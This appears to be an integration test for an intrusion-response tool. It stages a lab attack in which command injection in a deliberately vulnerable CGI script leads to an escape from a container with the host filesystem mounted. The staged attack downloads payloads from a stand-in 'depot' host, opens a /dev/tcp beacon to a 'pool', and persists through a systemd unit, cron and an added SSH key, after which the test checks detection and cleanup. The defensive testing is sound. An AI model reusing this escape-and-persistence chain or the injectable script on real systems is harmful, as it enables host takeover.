/** (f) A page in a container that has the host's files mounted runs commands: by it somebody changes over to the host and stays there. */
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { hostAddress, lacksScenario, type ScenarioHost } from '../scenario-host.ts';
import { reported } from './report.ts';
import { attacker, depot, greeting, ordinaryLoad, pool, prove, type Scene, serveFiles, servePool, startScene, visitor } from './scene.ts';

const id = 'b7c1e2d3a4f5968778695a4b3c2d1e0f9a8b7c6d5e4f30211203f4e5d6c7b8a9', layer = 'e5f4d3c2b1a09f8e7d6c';
const docker = '/var/lib/docker', merged = `${docker}/overlay2/${layer}/merged`;
const place = '/usr/lib/.netd';
const own = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMbX2wqv0o1j4sJm7n8b3c5d6e7f8g9h0i1j2k3l4m5n harbour@desk', key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFvV0ZfVt1xq5n0yq0h3p6m1x8Yw2Lr7c9QbTt4uEeAa ops@backup';
const capabilities = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_FOWNER', 'CAP_SETUID', 'CAP_SETGID', 'CAP_SYS_CHROOT', 'CAP_SYS_ADMIN', 'CAP_NET_BIND_SERVICE', 'CAP_KILL'];

/** A container as Docker starts one, by the runtime that Docker uses: process, mount, name and IPC namespaces and a control group of its own, the network of the host, and, which is the fault, the host's files at /host. */
async function runContainer(host: ScenarioHost): Promise<void> {
  const mounts = [
    { destination: '/proc', type: 'proc', source: 'proc' }, { destination: '/dev', type: 'tmpfs', source: 'tmpfs', options: ['nosuid', 'mode=755'] }, { destination: '/host', type: 'bind', source: '/', options: ['rbind', 'rw'] },
  ];
  const config = {
    ociVersion: '1.0.2', hostname: 'gallery', root: { path: merged }, mounts,
    process: { cwd: '/', user: { uid: 0, gid: 0 }, env: ['PATH=/bin'], args: ['/bin/httpd', '-f', '-p', '8080', '-h', '/www'], capabilities: { bounding: capabilities, effective: capabilities, permitted: capabilities } },
    linux: { cgroupsPath: `/system.slice/docker-${id}.scope`, namespaces: ['pid', 'mount', 'uts', 'ipc'].map((type) => ({ type })) },
  };
  await host.must('mkdir', '-p', docker);
  await host.must('mount', '-t', 'tmpfs', 'tmpfs', docker);
  const lower = `${docker}/overlay2/${layer}/lower`;
  await host.must('sh', '-c', 'for name in lower diff work merged; do mkdir -p "$1/overlay2/$2/$name"; done; mkdir -p "$1/containers/$3" "$1/overlay2/$2/lower/bin" "$1/overlay2/$2/lower/www/cgi-bin" "$1/overlay2/$2/lower/tmp" "$1/overlay2/$2/lower/proc" "$1/overlay2/$2/lower/dev" "$1/overlay2/$2/lower/host"; cp /usr/bin/busybox "$1/overlay2/$2/lower/bin/busybox"; for name in sh httpd wget chroot ping cat; do ln -s busybox "$1/overlay2/$2/lower/bin/$name"; done', 'sh', docker, layer, id);
  // Whoever asks names what is looked for: it goes into a shell as it is.
  host.plant(`${lower}/www/cgi-bin/find`, '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\nwhat=$(httpd -d "$QUERY_STRING")\nsh -c "cat /www/$what" 2>&1\n', { mode: 0o755 });
  host.plant(`${lower}/www/index.html`, '<h1>gallery</h1>\n');
  host.plant(`${docker}/containers/${id}/config.v2.json`, JSON.stringify({ ID: id, Name: '/gallery', Created: new Date().toISOString(), Config: { Image: 'shop/gallery:2.1' }, HostConfig: {} }));
  host.plant(`${docker}/bundle/config.json`, JSON.stringify(config));
  await host.must('mount', '-t', 'overlay', 'overlay', '-o', `lowerdir=${lower},upperdir=${docker}/overlay2/${layer}/diff,workdir=${docker}/overlay2/${layer}/work`, merged);
  await host.service('docker', `[Service]\nExecStart=/usr/sbin/runc run -b ${docker}/bundle ${id}\n`);
}

describe.skipIf(lacksScenario(['/usr/sbin/runc', '/usr/share/doc/busybox-static', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/python3']) || await lacksKernel())('(f) out of a container, to stay on the host', () => {
  const kit = mkdtempSync(join(tmpdir(), 'moat-kit-'));
  let scene: Scene;
  const ask = async (what: string, from = attacker): Promise<string> => (await scene.host.outside('/usr/bin/curl', ['-sS', '--max-time', '8', '--interface', from, `http://${hostAddress}:8080/cgi-bin/find?${encodeURIComponent(what)}`])).stdout;

  beforeAll(async () => {
    scene = await startScene({ async ready(host) { await runContainer(host); await ordinaryLoad(host); host.plant('/root/.ssh/authorized_keys', `${own}\n`, { mode: 0o600 }); } });
    writeFileSync(join(kit, 'job'), `exec 3<>/dev/tcp/${pool}/3333\nprintf '%s\\n' '${greeting}' >&3\nwhile read -r line <&3; do :; done\n`);
    copyFileSync('/bin/bash', join(kit, 'netd'));
    writeFileSync(join(kit, 'host.sh'), [
      `mkdir -p ${place}`, ...['netd', 'job'].map((name) => `curl -fsS http://${depot}/${name} -o ${place}/${name}`), `chmod 755 ${place}/netd`,
      `printf '[Unit]\\nDescription=Network daemon\\n[Service]\\nExecStart=${place}/netd ${place}/job\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/netd.service`,
      'ln -s ../netd.service /etc/systemd/system/multi-user.target.wants/netd.service',
      `printf '17 3 * * * root ${place}/netd ${place}/job\\n' > /etc/cron.d/netd`, `printf '%s\\n' '${key}' >> /root/.ssh/authorized_keys`, `setsid ${place}/netd ${place}/job > /dev/null 2>&1 < /dev/null &`, '',
    ].join('\n'));
    writeFileSync(join(kit, 'out.sh'), `#!/bin/sh\nwget -q -O /host/tmp/.host.sh http://${depot}/host.sh\nchroot /host /bin/bash /tmp/.host.sh\n`);
    await serveFiles(scene.host, kit);
    await servePool(scene.host);
    // The unit has begun; what runs in the container listens a moment later.
    await vi.waitUntil(async () => (await ask('index.html')).includes('gallery'), { timeout: 30_000, interval: 200 });
  });
  afterAll(async () => {
    await scene?.end();
    rmSync(kit, { recursive: true, force: true });
  });

  it('is one incident from the request to the unit on the host, and ends with its plan', async () => {
    const { host } = scene;
    expect(await ask('index.html')).toContain('gallery');
    expect(await ask('index.html; cat /proc/1/cgroup')).toContain('gallery');
    await ask(`index.html; wget -q -O /tmp/out.sh http://${depot}/out.sh; sh /tmp/out.sh`);
    expect(existsSync(join(host.root, 'etc/cron.d/netd'))).toBe(true);
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'container', service: 'gallery', address: attacker }, level: 'critical', grade: 2,
      steps: [
        'freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `block-address ${pool}`,
        'stop-unit unit netd.service', 'quarantine-file /etc/cron.d/netd', 'remove-line /root/.ssh/authorized_keys',
        'quarantine-file /tmp/.host.sh', `quarantine-file ${place}/netd`, `quarantine-file ${place}/job`, `quarantine-file ${merged}/tmp/out.sh`, 'kill-tree process',
      ],
      checks: ['cron', 'systemd', 'ssh-keys', 'odd-file'], running: /\.netd/,
      stays: [/^\/etc\/systemd\/system\/(?:netd\.service|\.moat-\w+netd\.service\.aside)$/],
      after: () => { expect(existsSync(join(host.root, merged, 'tmp/out.sh'))).toBe(false); },
    });
    // The container serves others on: that a person stops it, or builds it anew without the host's files, is said.
    expect(await ask('index.html', visitor)).toContain('gallery');
    expect(readFileSync(join(host.root, 'root/.ssh/authorized_keys'), 'utf8')).toBe(`${own}\n`);
    expect(plan.left_alone.find(({ node }) => node === `container:${id}`)).toBeDefined();
    reported(scene, incident, plan, { says: ['gallery', `${place}/netd`, '/etc/cron.d/netd', 'netd.service', attacker, depot, pool] });
  });
});
